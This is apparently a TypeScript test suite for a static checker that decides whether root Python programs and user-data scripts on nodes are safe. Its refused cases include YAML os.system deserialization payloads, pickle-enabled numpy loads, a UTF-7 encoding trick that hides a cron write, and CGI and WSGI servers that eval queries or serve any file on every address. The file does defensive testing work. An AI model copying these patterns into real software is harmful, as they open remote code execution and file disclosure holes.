            'print(numpy.load("/var/cache/ops/state.npy", allow_pickle=True))',
        ]),
        REFUSED,
    ),
    // Python docs "doctest": examples of a pure function.
    // Was a MISS (secure, fail-closed by design): Python docs "doctest" (testmod runs each `>>>`
    // example of the module's docstrings): here only add(1, 2). The pack refuses "runs code the pack does not read"
    // since doctest is in PYTHON_DYNAMIC_NAMES (pythonCode.ts pythonDynamic). Fix if wanted: doctest.testmod() of the
    // module itself reads its docstrings' `>>>` / `...` lines as code of the file (and testfile's file when user data
    // wrote it); else keep refusing.
    // DECIDED (round 74): refused. Python docs "doctest": testmod() runs every `>>>` example of every docstring
    // reachable from the module ("Test examples in docstrings in functions and classes reachable from module m"), as
    // code: the pack reads docstrings as strings, not code, and a docstring's example is as powerful as the file's own
    // code (the insecure testmod case above). Reading them soundly means parsing doctest's example syntax (PS1/PS2
    // lines, continuation, directives) as a second program: out of scope, so doctest stays code the pack does not read.
    dev(
        "tune.py: doctest.testmod() of a pure add() docstring",
        tune("dev-py73p-doctest-pure-nodes", [
            "import doctest",
            "def add(a, b):",
            '    """',
            "    >>> add(1, 2)",
            "    3",
            '    """',
            "    return a + b",
            "doctest.testmod()",
        ]),
        REFUSED,
    ),
    // Python docs "ctypes": libc's getpid changes nothing.
    // Was a MISS (secure, fail-closed by design): Python docs "ctypes" (CDLL("libc.so.6").getpid
    // calls getpid(2)); ctypes is in PYTHON_DYNAMIC_NAMES: refused as unread code. Fix if wanted: a CDLL of the C
    // library whose every attribute used is a listed read-only libc function (getpid, getuid, sysconf, ...) is read;
    // any other (system, held above) stays refused.
    // DECIDED (round 74): refused. Python docs "ctypes": CDLL loads a shared library and any attribute is a C
    // function called with no type checking ("ctypes ... allows calling functions in DLLs or shared libraries"; wrong
    // calls "crash" the interpreter); the pack reads no native code, and which symbol a name reaches (getattr, a
    // computed name, a function pointer cast) is not something it follows: ctypes stays code the pack does not read.
    dev(
        "tune.py: ctypes.CDLL('libc.so.6').getpid()",
        tune("dev-py73p-ctypes-libc-getpid-nodes", ["import ctypes", 'print(ctypes.CDLL("libc.so.6").getpid())']),
        REFUSED,
    ),
    // --- round 74 neighbours (insecure) ---
    // PyYAML docs ("yaml.full_load": FullLoader; "PyYAML yaml.load(input) Deprecation": load without a Loader is
    // FullLoader before 6.0, Loader before 5.1): both construct Python objects.
    dev(
        "tune.py: yaml.full_load(open('/etc/ops/t.yaml')) (FullLoader)",
        tune(
            "dev-py74p-yaml-full-load-nodes",
            ["import yaml", 'print(yaml.full_load(open("/etc/ops/t.yaml")))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml')) (no Loader: FullLoader or Loader by version)",
        tune(
            "dev-py74p-yaml-load-noloader-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml")))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    dev(
        "tune.py: from yaml import load, UnsafeLoader; load_all(f, Loader=UnsafeLoader) (from-import names)",
        tune(
            "dev-py74p-yaml-from-unsafe-nodes",
            [
                "from yaml import load_all, UnsafeLoader",
                'print(list(load_all(open("/etc/ops/t.yaml"), Loader=UnsafeLoader)))',
            ],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    dev(
        "tune.py: yaml.load(f, Loader=L) where L = yaml.SafeLoader rebound to yaml.Loader (a name, not the loader)",
        tune(
            "dev-py74p-yaml-loader-variable-nodes",
            ["import yaml", "L = yaml.SafeLoader", "L = yaml.Loader", 'print(yaml.load(open("/etc/ops/t.yaml"), L))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    // NumPy docs "numpy.load(file, mmap_mode=None, allow_pickle=False, ...)": allow_pickle is the third positional.
    dev(
        "tune.py: import numpy as np; np.load('/var/cache/ops/state.npy', None, True) (allow_pickle positional)",
        tune("dev-py74p-numpy-pickle-positional-nodes", [
            "import numpy as np",
            'print(np.load("/var/cache/ops/state.npy", None, True))',
        ]),
        REFUSED,
    ),
    // PEP 263: latin-1 decodes each UTF-8 byte of "é" as its own character: the pack's text is not CPython's.
    dev(
        "tune.py: # -*- coding: latin-1 -*- with a non-ASCII string (CPython reads other characters)",
        tune("dev-py74p-latin1-nonascii-nodes", [
            "# -*- coding: latin-1 -*-",
            'open("/var/lib/ops/caf\u00e9", "w").write("{}")',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: #!/usr/bin/python3 then # coding=UTF_7 (an alias spelling) hiding +AAo-open('/etc/cron.d/ops', 'w')",
        tune("dev-py74p-utf7-alias-nodes", [
            "#!/usr/bin/python3",
            "# coding=UTF_7",
            `# +AAo-open('/etc/cron.d/ops', 'w').write('${CRON}')`,
        ]),
        REFUSED,
    ),
    // Python "Command line and environment" (<script> "a zipfile"): an archive named anything else, made by zip(1).
    dev(
        "user data: cd /opt/ops/app && zip -r /opt/ops/app.zip . ; python3 /opt/ops/app.zip (serves)",
        devNodeScript("dev-py74p-zip-main-nodes", [
            ...heredocFile("/opt/ops/app/__main__.py", SERVER.concat(["main()"])),
            "cd /opt/ops/app && zip -r /opt/ops/app.zip .",
            "cd /var/lib && nohup python3 /opt/ops/app.zip >/var/log/app.log 2>&1 &",
        ]),
        REFUSED,
    ),
    dev(
        "user data: cp /opt/ops/srv.py /opt/ops/srvbin; python3 /opt/ops/srvbin (a script a command made)",
        devNodeScript("dev-py74p-copied-script-nodes", [
            ...heredocFile("/opt/ops/srv.py", SERVER.concat(["main()"])),
            "cp /opt/ops/srv.py /opt/ops/srvbin",
            "cd /var/lib && nohup python3 /opt/ops/srvbin >/var/log/app.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "http.server": --cgi with --bind 0.0.0.0 and -d: the CGI directory is -d's.
    dev(
        "user data: python3 -m http.server --cgi --bind 0.0.0.0 -d /opt/ops 8001 (CGI, every address)",
        devNodeScript("dev-py74p-cgi-bind-all-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", ["#!/bin/sh", "echo", 'eval "$QUERY_STRING"']),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            "cd /var/lib && nohup python3 -m http.server --cgi --bind 0.0.0.0 -d /opt/ops 8001 >/dev/null 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "wsgiref.simple_server.WSGIServer": set_app gives the app; its server_address a tuple.
    dev(
        "tune.py: WSGIServer(('0.0.0.0', 8001), WSGIRequestHandler).set_app(app) (app returns any file)",
        tune("dev-py74p-wsgiserver-set-app-nodes", [
            "from wsgiref.simple_server import WSGIServer, WSGIRequestHandler",
            "def app(env, start):",
            '    start("200 OK", [])',
            '    return [open(env["PATH_INFO"], "rb").read()]',
            's = WSGIServer(("0.0.0.0", 8001), WSGIRequestHandler)',
            "s.set_app(app)",
            "s.serve_forever()",
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: make_server('', 8001, app) whose app rebinds start = open and calls start(PATH_INFO)",
        tune("dev-py74p-wsgiref-rebound-start-nodes", [
            "from wsgiref.simple_server import make_server",
            "def app(env, start):",
            "    start = open",
            '    return [start(env["PATH_INFO"], "rb").read()]',
            'make_server("", 8001, app).serve_forever()',
        ]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // PEP 263: a utf-8 declaration changes nothing of an ASCII file; writes a data path.
    dev(
        "tune.py: # -*- coding: utf-8 -*- then open('/var/lib/ops/state.json', 'w')",
        tune("dev-py73p-utf8-decl-nodes", [
            "# -*- coding: utf-8 -*-",
            'open("/var/lib/ops/state.json", "w").write("{}")',
        ]),
    ),
    dev(
        "tune.py: atexit.register(print, 'bye') and a Thread(target=work) writing /var/lib/ops/state.json",
        tune("dev-py73p-atexit-thread-pure-nodes", [
            "import atexit, threading",
            'atexit.register(print, "bye")',
            "def work():",
            '    open("/var/lib/ops/state.json", "w").write("{}")',
            "threading.Thread(target=work).start()",
        ]),
    ),
    dev(
        "tune.py: signal.signal(SIGTERM, handler) whose handler writes /var/lib/ops/stopped",
        tune("dev-py73p-signal-pure-nodes", [
            "import signal, sys",
            "def stop(s, f):",
            '    open("/var/lib/ops/stopped", "w").write("1")',
            "    sys.exit(0)",
            "signal.signal(signal.SIGTERM, stop)",
        ]),
    ),
    dev(
        "tune.py: subprocess.run(['sysctl', '-w', 'vm.swappiness=10'], cwd='/var/lib/ops') and getoutput('uname -r')",
        tune("dev-py73p-subprocess-cwd-pure-nodes", [
            "import subprocess",
            'subprocess.run(["sysctl", "-w", "vm.swappiness=10"], cwd="/var/lib/ops", check=True)',
            'print(subprocess.getoutput("uname -r"))',
        ]),
    ),
    dev(
        "user data: python3 /opt/ops/app (a directory whose __main__.py prints)",
        devNodeScript("dev-py73p-dir-main-pure-nodes", [
            ...heredocFile("/opt/ops/app/__main__.py", ['print("hello")']),
            "cd /var/lib && python3 /opt/ops/app",
        ]),
    ),
    dev(
        "user data: python3 - <<'EOF' (a program on standard input that prints)",
        devNodeScript("dev-py73p-stdin-heredoc-pure-nodes", [
            "cd /var/lib && python3 - <<'EOF'",
            "import json",
            'print(json.dumps({"a": 1}))',
            "EOF",
        ]),
    ),
    // Python docs "multiprocessing.Pool": worker processes on the node; no listener.
    dev(
        "tune.py: multiprocessing.Pool(2).map(abs, [-1, 2]) (local workers only)",
        tune("dev-py73p-mp-pool-nodes", [
            "from multiprocessing import Pool",
            'if __name__ == "__main__":',
            "    with Pool(2) as p:",
            "        print(p.map(abs, [-1, 2]))",
        ]),
    ),
    // Python docs "socketserver": an echo handler returns the client's own bytes.
    dev(
        "tune.py: socketserver.TCPServer(('0.0.0.0', 8001), Echo) (echoes the client's line)",
        tune("dev-py73p-socketserver-echo-nodes", [
            "import socketserver",
            "class Echo(socketserver.StreamRequestHandler):",
            "    def handle(self):",
            "        self.wfile.write(self.rfile.readline())",
            'socketserver.TCPServer(("0.0.0.0", 8001), Echo).serve_forever()',
        ]),
    ),
    dev(
        "tune.py: site.addsitedir('/opt/ops/site') (a directory with only a plain module, no .pth)",
        tune(
            "dev-py73p-addsitedir-plain-nodes",
            ["import site", 'site.addsitedir("/opt/ops/site")', "import opsutil", "print(opsutil.VERSION)"],
            heredocFile("/opt/ops/site/opsutil.py", ['VERSION = "1.0"']),
        ),
    ),
    dev(
        "tune.py: shutil.move and Path.replace between data paths; basicConfig(filename='/var/log/ops/tune.log')",
        tune("dev-py73p-move-data-nodes", [
            "import logging, shutil",
            "from pathlib import Path",
            'logging.basicConfig(filename="/var/log/ops/tune.log")',
            'Path("/var/lib/ops/a").write_text("{}")',
            'shutil.move("/var/lib/ops/a", "/var/lib/ops/b")',
            'Path("/var/lib/ops/b").replace("/var/lib/ops/state.json")',
            'logging.warning("tuned")',
        ]),
    ),
    // PyYAML docs: safe_load builds only plain data.
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml'), Loader=yaml.SafeLoader)",
        tune(
            "dev-py73p-yaml-safeloader-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), Loader=yaml.SafeLoader))'],
            heredocFile("/etc/ops/t.yaml", ["swappiness: 10"]),
        ),
    ),
    // Python docs "wsgiref.simple_server": an app returning a constant serves nothing of the node.
    dev(
        "tune.py: wsgiref make_server('', 8001, app) whose app returns b'ok'",
        tune("dev-py73p-wsgiref-pure-nodes", [
            "from wsgiref.simple_server import make_server",
            "def app(env, start):",
            '    start("200 OK", [("Content-Type", "text/plain")])',
            '    return [b"ok"]',
            'make_server("", 8001, app).serve_forever()',
        ]),
    ),
    // NumPy docs "numpy.load": allow_pickle defaults to False ("Disallowing pickles"): plain arrays only.
    dev(
        "tune.py: numpy.load('/var/cache/ops/state.npy') (allow_pickle False by default)",
        tune("dev-py73p-numpy-load-plain-nodes", [
            "import numpy",
            'print(numpy.load("/var/cache/ops/state.npy").sum())',
        ]),
    ),
    // --- round 74 neighbours (secure) ---
    // PyYAML docs: safe_load is load with SafeLoader; a C twin by position; a from-import of load and SafeLoader.
    dev(
        "tune.py: yaml.safe_load(open('/etc/ops/t.yaml'))",
        tune(
            "dev-py74p-yaml-safe-load-nodes",
            ["import yaml", 'print(yaml.safe_load(open("/etc/ops/t.yaml")))'],
            heredocFile("/etc/ops/t.yaml", ["swappiness: 10"]),
        ),
    ),
    dev(
        "tune.py: import yaml as y; y.load(open('/etc/ops/t.yaml'), y.CSafeLoader) (positional, aliased)",
        tune(
            "dev-py74p-yaml-csafe-positional-nodes",
            ["import yaml as y", 'print(y.load(open("/etc/ops/t.yaml"), y.CSafeLoader))'],
            heredocFile("/etc/ops/t.yaml", ["swappiness: 10"]),
        ),
    ),
    dev(
        "tune.py: from yaml import load, SafeLoader; load(open('/etc/ops/t.yaml'), Loader=SafeLoader)",
        tune(
            "dev-py74p-yaml-from-safe-nodes",
            ["from yaml import load, SafeLoader", 'print(load(open("/etc/ops/t.yaml"), Loader=SafeLoader))'],
            heredocFile("/etc/ops/t.yaml", ["swappiness: 10"]),
        ),
    ),
    // NumPy docs "numpy.load": allow_pickle=False explicitly.
    dev(
        "tune.py: import numpy as np; np.load('/var/cache/ops/state.npy', allow_pickle=False)",
        tune("dev-py74p-numpy-nopickle-nodes", [
            "import numpy as np",
            'print(np.load("/var/cache/ops/state.npy", allow_pickle=False).sum())',
        ]),
    ),
    // PEP 263: the vim form naming utf-8 on line 2; latin-1 on an ASCII file (the same characters).
    dev(
        "tune.py: #!/usr/bin/env python3 then # vim: set fileencoding=utf-8 : writing a data path",
        tune("dev-py74p-vim-utf8-nodes", [
            "#!/usr/bin/env python3",
            "# vim: set fileencoding=utf-8 :",
            'open("/var/lib/ops/state.json", "w").write("{}")',
        ]),
    ),
    dev(
        "tune.py: # -*- coding: iso-8859-1 -*- on an ASCII file writing a data path",
        tune("dev-py74p-latin1-ascii-nodes", [
            "# -*- coding: iso-8859-1 -*-",
            'open("/var/lib/ops/state.json", "w").write("{}")',
        ]),
    ),
    // A comment mentioning coding on line 3 is no declaration (PEP 263: line 1 or 2 only).
    dev(
        "tune.py: a third-line comment '# coding: utf-7' (no declaration)",
        tune("dev-py74p-coding-line3-nodes", [
            "import json",
            "",
            "# coding: utf-7 is not declared here",
            'print(json.dumps({"a": 1}))',
        ]),
    ),
    // Python docs "http.server": --cgi bound to loopback serves the node's own processes only.
    dev(
        "user data: python3 -m http.server --cgi --bind 127.0.0.1 8001 from /opt/ops (loopback)",
        devNodeScript("dev-py74p-cgi-loopback-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", ["#!/bin/sh", "echo", "echo ok"]),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            "cd /opt/ops && nohup python3 -m http.server --cgi --bind 127.0.0.1 8001 >/dev/null 2>&1 &",
        ]),
    ),
    // A file-serving WSGI app bound to loopback serves the node's own processes only.
    dev(
        "tune.py: wsgiref make_server('127.0.0.1', 8001, app) (app returns any file, loopback only)",
        tune("dev-py74p-wsgiref-loopback-nodes", [
            "from wsgiref.simple_server import make_server",
            "def app(env, start):",
            '    start("200 OK", [])',
            '    return [open(env["PATH_INFO"], "rb").read()]',
            'make_server("127.0.0.1", 8001, app).serve_forever()',
        ]),
    ),
    dev(
        "tune.py: wsgiref make_server('', 8001, app) whose app answers a constant by status and headers of locals",
        tune("dev-py74p-wsgiref-pure-locals-nodes", [
            "from wsgiref.simple_server import make_server",
            "def app(environ, start_response):",
            '    body = b"ok"',
            '    start_response("200 OK", [("Content-Length", str(len(body)))])',
            "    return [body]",
            'make_server("", 8001, app).serve_forever()',
        ]),
    ),
];

describeNodeCases("red team 73: node user data, root Python programs (fresh eyes)", insecure, secure);
